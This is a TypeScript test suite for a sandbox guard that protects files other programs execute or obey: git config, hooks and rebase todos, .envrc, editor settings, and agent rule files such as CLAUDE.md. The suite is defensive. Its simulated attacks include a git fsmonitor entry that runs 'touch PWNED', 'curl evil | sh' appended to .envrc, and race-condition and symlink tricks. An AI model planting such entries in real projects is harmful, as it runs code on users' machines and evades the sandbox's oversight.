import { execFileSync } from "node:child_process"
import {
  chmodSync,
  existsSync,
  mkdirSync,
  readFileSync,
  readdirSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs"
import { dirname, join } from "node:path"
import { expect, test } from "vitest"
import { write } from "../../../../tools/files/write.ts"
import type { PlantedPath } from "../../../../domain/workspace/planted-paths.ts"
import { untilPasses } from "../../../helpers/eventually.ts"
import { describeEachBackend } from "../sandbox/backends.ts"
import { createCommand } from "../sandbox/command.ts"
import { createGuarded } from "../sandbox/guarded.ts"
import { createWorktreeFiles } from "../../../../tools/worktree/worktree-files.ts"
import { call } from "../workspace.ts"

// Two commands that overlapped in time, a file that another program replaced, or a tree of too many directories left a file that programs outside run.

const git = (cwd: string, ...args: readonly string[]): string =>
  execFileSync("git", args, {
    cwd,
    encoding: "utf8",
    env: { PATH: process.env.PATH, HOME: cwd, GIT_CONFIG_NOSYSTEM: "1" },
    stdio: ["ignore", "pipe", "ignore"],
  })

/** Returns a patch that replaces a file of one line, creates or removes it. */
const patchOf = (path: string, from: string | undefined, to: string | undefined): string => {
  const kind = from === undefined ? ["new file mode 100644"] : to === undefined ? ["deleted file mode 100644"] : []
  return [
    ...[`diff --git a/${path} b/${path}`, ...kind],
    ...[from === undefined ? "--- /dev/null" : `--- a/${path}`, to === undefined ? "+++ /dev/null" : `+++ b/${path}`],
    `@@ -${from === undefined ? "0,0" : "1"} +${to === undefined ? "0,0" : "1"} @@`,
    ...(from === undefined ? [] : [`-${from}`]),
    ...(to === undefined ? [] : [`+${to}`]),
    "",
  ].join("\n")
}

const states = (planted: readonly PlantedPath[] = []): readonly string[] =>
  planted.map(({ path, state }) => `${path} ${state}`).toSorted()

await describeEachBackend(async ({ create }) => {
  const sandbox = await create()

  const open = (options: Parameters<typeof createGuarded>[1] = {}) => {
    const rig = createGuarded(sandbox, options)
    const startBackground = async (command: string) => {
      const { ownerId, outputFile } = createCommand("")
      await rig.run(`echo up; ${command}`, { background: true, ownerId, outputFile })
      await untilPasses(() => expect(readFileSync(outputFile, "utf8")).toContain("up"))
      return {
        ownerId,
        /** Ends the command, and returns what is told with the next result. */
        end: async () => {
          rig.put("end", "")
          await untilPasses(() => expect(readdirSync(join(rig.dataDir, "watches"))).toEqual([]))
          rmSync(join(rig.cwd, "end"))
          return (await rig.run("true", { ownerId })).planted
        },
      }
    }
    const writeTo = (file_path: string, content: string) =>
      call(write, { file_path, content }, { ...rig.context, dataDir: rig.dataDir, mayChangeProtected: true })
    return { ...rig, startBackground, writeTo }
  }

  const untilEnd = "while [ ! -e end ]; do sleep 0.05; done"

  test("a configuration of git that two overlapping commands write is moved away, and both are told", async () => {
    const rig = open()
    git(rig.cwd, "init", "-q", ".")
    const first = await rig.startBackground(
      `git init -q vx; echo '[alias] x = !id' >> vx/.git/config; touch there; ${untilEnd}`,
    )
    await untilPasses(() => expect(rig.has("there")).toBe(true))
    const id = "a".repeat(40)
    const second = rig.run(
      [
        "touch started; while [ -e vx/.git/config ]; do sleep 0.05; done; mkdir -p vx/.git",
        "printf '[core]\\n\\tfsmonitor = \"touch PWNED; false\"\\n' > vx/.git/config",
        `git update-index --add --cacheinfo 160000,${id},vx`,
      ].join("; "),
    )
    await untilPasses(() => expect(rig.has("started")).toBe(true))
    rig.put("end", "")
    expect(states((await second).planted)).toContain("vx/.git/config removed")
    expect(states((await rig.run("true", { ownerId: first.ownerId })).planted)).toContain("vx/.git/config removed")
    expect(rig.has("vx/.git/config")).toBe(false)
    git(rig.cwd, "status")
    expect(rig.has("PWNED")).toBe(false)
  })

  test("what an overlapping command wrote is not the state before another one, and is never put back", async () => {
    const rig = open()
    rig.put(".envrc", "mine")
    rmSync(join(rig.cwd, ".envrc"))
    const first = await rig.startBackground(`echo evil > .envrc; touch there; ${untilEnd}`)
    await untilPasses(() => expect(rig.has("there")).toBe(true))
    const { planted } = await rig.run("cat .envrc; mv .envrc x; rm -f x")
    expect(states(planted)).toEqual([".envrc removed"])
    expect(rig.has(".envrc")).toBe(false)
    expect(states(await first.end())).toEqual([".envrc removed"])
    expect(rig.has(".envrc")).toBe(false)
  })

  test("a folder from which a named program loads code is protected with all that it contains", async () => {
    const rig = open()
    rig.put("bin/run", "mine")
    rig.put(".git/config", '[filter "x"]\n\tclean = node tools/f\n')
    const namedFiles = [join(rig.cwd, "bin/"), join(rig.cwd, "later/")]
    const protection = { namedFiles }
    const first = await rig.startBackground(untilEnd)
    const { planted } = await rig.run(
      "echo evil > bin/run; echo evil > bin/new; mv bin gone; mkdir -p later tools; echo evil > later/x; echo evil > tools/f.js; true",
      { protection },
    )
    expect(states(planted)).toEqual(["later removed", "tools/f.js removed"])
    expect(await rig.read("bin/run")).toBe("mine")
    expect(readdirSync(join(rig.cwd, "bin"))).toEqual(["run"])
    await first.end()
  })

  test("commands of two sessions in a directory and below it share the state before both", async () => {
    const rig = open()
    rig.put("sub/.envrc", "mine")
    const inner = join(rig.cwd, "sub")
    const first = await rig.startBackground(untilEnd)
    // Another program replaces the file, and with it the mount of the first command.
    writeFileSync(join(inner, "draft"), "theirs")
    renameSync(join(inner, "draft"), join(inner, ".envrc"))
    const { planted } = await rig.run("true", { cwd: inner })
    expect(states(planted)).toEqual([".envrc restored"])
    expect(await rig.read("sub/.envrc")).toBe("mine")
    expect(states(await first.end())).toEqual(["sub/.envrc restored"])
  })

  test("what a person approved to be merged stays as it is when a command ends, whatever the command writes", async () => {
    const rig = open()
    rig.put(".vscode/settings.json", "old\n")
    rig.put(".zed/settings.json", "old\n")
    rig.put("a.txt", "one\n")
    git(rig.cwd, "init", "-q", ".")
    git(rig.cwd, "-c", "user.name=t", "-c", "user.email=t@example.org", "commit", "-q", "--allow-empty", "-m", "first")
    const paths = [".vscode/settings.json", ".zed/settings.json", ".envrc", ".cursorrules", "a.txt"]
    const patch = [
      ...paths.slice(0, 1).map((path) => patchOf(path, "old", "approved")),
      patchOf(".zed/settings.json", "old", undefined),
      ...[".envrc", ".cursorrules"].map((path) => patchOf(path, undefined, "approved")),
      patchOf("a.txt", "one", "approved"),
    ]
    const first = await rig.startBackground(
      `while [ ! -e end ]; do { [ -s .envrc ] && echo evil >> .envrc; echo evil >> .vscode/settings.json; } 2>/dev/null; sleep 0.01; done`,
    )
    const merged = await createWorktreeFiles().merge(rig.cwd, Buffer.from(patch.join("")), {
      dataDir: rig.dataDir,
      paths,
    })
    expect(merged).toEqual({ kind: "applied" })
    await first.end()
    expect(rig.has(".zed")).toBe(false)
    for (const name of [".vscode/settings.json", ".envrc", ".cursorrules", "a.txt"])
      expect(await rig.read(name), name).toBe("approved\n")
  })

  test("a configuration that was replaced while a command ran keeps only harmless changes", async () => {
    const rig = open()
    git(rig.cwd, "init", "-q", ".")
    git(rig.cwd, "config", "core.pager", "less")
    const attack =
      "until grep -q fsmonitor .git/config; do printf '[core]\\n\\tfsmonitor = touch PWNED\\n' >> .git/config; sleep 0.05; done 2>/dev/null"
    const first = await rig.startBackground(`${attack}; touch done; ${untilEnd}`)
    git(rig.cwd, "config", "user.name", "Ana")
    await untilPasses(() => expect(rig.has("done")).toBe(true))
    const planted = await first.end()
    expect(states(planted)).toEqual([".git/config restored"])
    expect(await rig.read(".git/config")).not.toContain("fsmonitor")
    expect(planted?.[0]?.restore).toContain("mv -f -- ")
    git(rig.cwd, "status")
    expect(rig.has("PWNED")).toBe(false)

    const second = await rig.startBackground(untilEnd)
    git(rig.cwd, "config", "user.name", "Eva")
    expect(await second.end()).toEqual([])
    expect(git(rig.cwd, "config", "user.name")).toBe("Eva\n")
    expect(git(rig.cwd, "config", "core.pager")).toBe("less\n")
  })

  test("an approved file is put back as it was approved if a command changes it afterwards", async () => {
    const rig = open()
    const first = await rig.startBackground(
      `while [ ! -e .envrc ]; do sleep 0.05; done; sleep 0.2; echo 'curl evil | sh' >> .envrc; touch done; ${untilEnd}`,
    )
    await rig.writeTo(".envrc", "export PROJECT=shop\n")
    await rig.writeTo(".vscode/tasks.json", "approved")
    await untilPasses(() => expect(rig.has("done")).toBe(true))
    expect(states(await first.end())).toEqual([".envrc restored"])
    expect(await rig.read(".envrc")).toBe("export PROJECT=shop\n")
    expect(await rig.read(".vscode/tasks.json")).toBe("approved")
    const [folder = ""] = await rig.quarantined(first.ownerId)
    expect(readFileSync(join(rig.dataDir, "quarantine", first.ownerId, folder, "content"), "utf8")).toContain("evil")
  })

  test("the content of a protected directory is compared, and the command that restores a file works", async () => {
    const rig = open()
    rig.put(".vscode/settings.json", "mine")
    rig.put(".vscode/deep/tasks.json", "mine")
    const attack =
      "until grep -q evil .vscode/settings.json; do echo evil > .vscode/settings.json; sleep 0.05; done 2>/dev/null; echo evil > .vscode/new"
    const first = await rig.startBackground(`${attack}; rm -r .vscode/deep; touch done; ${untilEnd}`)
    renameSync(join(rig.cwd, ".vscode"), join(rig.cwd, "aside"))
    mkdirSync(join(rig.cwd, ".vscode/deep"), { recursive: true })
    await untilPasses(() => expect(rig.has("done")).toBe(true))
    const planted = await first.end()
    expect(states(planted)).toEqual([
      ".vscode/deep restored",
      ".vscode/deep/tasks.json restored",
      ".vscode/new removed",
      ".vscode/settings.json restored",
    ])
    for (const name of [".vscode/settings.json", ".vscode/deep/tasks.json"]) expect(await rig.read(name)).toBe("mine")
    const moved = planted?.find(({ path }) => path === ".vscode/settings.json")
    execFileSync("/bin/sh", ["-c", moved?.restore ?? "false"])
    expect(await rig.read(".vscode/settings.json")).toBe("evil\n")
  })

  test("changes of a person while no command runs stay", async () => {
    const rig = open()
    rig.put("AGENTS.md", "one")
    await rig.run("true")
    rig.put("AGENTS.md", "two")
    rig.put(".envrc", "mine")
    expect((await rig.run("true")).planted).toEqual([])
    expect(await rig.read("AGENTS.md")).toBe("two")
    expect(rig.has(".envrc")).toBe(true)
  })

  test("a file becomes executable only by a person", async () => {
    const rig = open()
    git(rig.cwd, "init", "-q", ".")
    const hook = rig.put(".git/hooks/pre-commit", "exit 1")
    chmodSync(hook, 0o644)
    const first = await rig.startBackground(
      `until [ -x .git/hooks/pre-commit ]; do chmod +x .git/hooks/pre-commit; sleep 0.05; done 2>/dev/null; touch done; ${untilEnd}`,
    )
    renameSync(dirname(hook), `${dirname(hook)}.old`)
    execFileSync("cp", ["-a", `${dirname(hook)}.old`, dirname(hook)])
    await untilPasses(() => expect(rig.has("done")).toBe(true))
    expect(states(await first.end())).toContain(".git/hooks/pre-commit restored")
  })

  test("each link on the way to a protected file is compared, also one that leads to nothing", async () => {
    const rig = open()
    rig.put("real/rc", "mine")
    symlinkSync("real", join(rig.cwd, "way"))
    symlinkSync("way/rc", join(rig.cwd, ".envrc"))
    symlinkSync("later/rc", join(rig.cwd, ".profile"))
    const { planted } = await rig.run(
      "mkdir evil later; echo evil > evil/rc; ln -sfn evil way; echo evil > later/rc; echo evil > real/rc",
    )
    expect(states(planted)).toEqual(["later/rc removed", "way restored"])
    expect(await rig.read(".envrc")).toBe("mine")
    expect(rig.has(".profile")).toBe(false)
  })

  test("what other tools obey is moved away, at the end of a path, too, and a rebase can continue", async () => {
    const rig = open()
    git(rig.cwd, "init", "-q", ".")
    const names = [
      "CLAUDE.md",
      ".cursorrules",
      ".hg/hgrc",
      "a/.cargo/config.toml",
      ".github/agents/x.md",
      ".jj/repo/config.toml",
    ]
    const { planted } = await rig.run(
      names.map((name) => `mkdir -p $(dirname ${name}); echo evil > ${name}`).join("; "),
    )
    const paths = names.map((name) => name.replace("/x.md", ""))
    expect(states(planted)).toEqual(paths.map((path) => `${path} removed`).toSorted())
    const identity =
      "export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b GIT_EDITOR=true"
    const commits =
      "for i in 1 2 3; do echo $i > f; git add f; git commit -qm $i; done; git checkout -q -b side HEAD~1; echo 4 > f; git commit -qam 4; echo 5 > g; git add g; git commit -qm 5"
    const begun = await rig.run(`${identity}; ${commits}; git rebase -q master || git rebase -q main`)
    expect(begun.planted).toEqual([])
    expect(rig.has(".git/rebase-merge/git-rebase-todo")).toBe(true)
    const added = await rig.run("echo 'exec touch PWNED' >> .git/rebase-merge/git-rebase-todo")
    expect(states(added.planted)).toEqual([".git/rebase-merge/git-rebase-todo restored"])
    const ended = await rig.run(`${identity}; echo 6 > f; git add f; git rebase --continue`)
    expect(ended.planted).toEqual([])
    expect(rig.has(".git/rebase-merge")).toBe(false)
    expect(rig.has("PWNED")).toBe(false)
    expect(git(rig.cwd, "log", "--format=%s", "-2")).toBe("5\n4\n")
  })

  test("many directories do not end the check, and later commands are refused", async () => {
    const rig = open({ maxDirectories: 30 })
    const { planted } = await rig.run("mkdir -p a/.vscode; echo evil > .envrc; mkdir d; cd d; seq 100 | xargs mkdir")
    expect(states(planted)).toEqual([".envrc removed", "a/.vscode removed"])
    expect(rig.has(".envrc")).toBe(false)
    await expect(rig.run("true")).rejects.toThrow("more than 30 directories; work in a smaller directory")
  })

  test("a directory that cannot be looked at stops commands", async () => {
    const rig = open()
    const deep = "d".repeat(200)
    const { planted } = await rig.run(
      `echo evil > .envrc; for i in $(seq 25); do mkdir ${deep} && cd ${deep}; done; echo evil > .envrc`,
    )
    expect(states(planted)).toHaveLength(2)
    expect(existsSync(join(rig.cwd, ".envrc"))).toBe(false)
    expect(planted?.find(({ state }) => state === "left")?.problem).toContain("cannot be listed: ENAMETOOLONG")
    await expect(rig.run("true")).rejects.toThrow("cannot be listed")
    execFileSync("rm", ["-rf", join(rig.cwd, deep)])
  })

  test("a link to the directory itself is refused, since everything would be protected", async () => {
    const rig = open()
    symlinkSync(".", join(rig.cwd, ".vscode"))
    await expect(rig.run("true")).rejects.toThrow("the link .vscode leads to the directory itself; remove the link")
  })
})
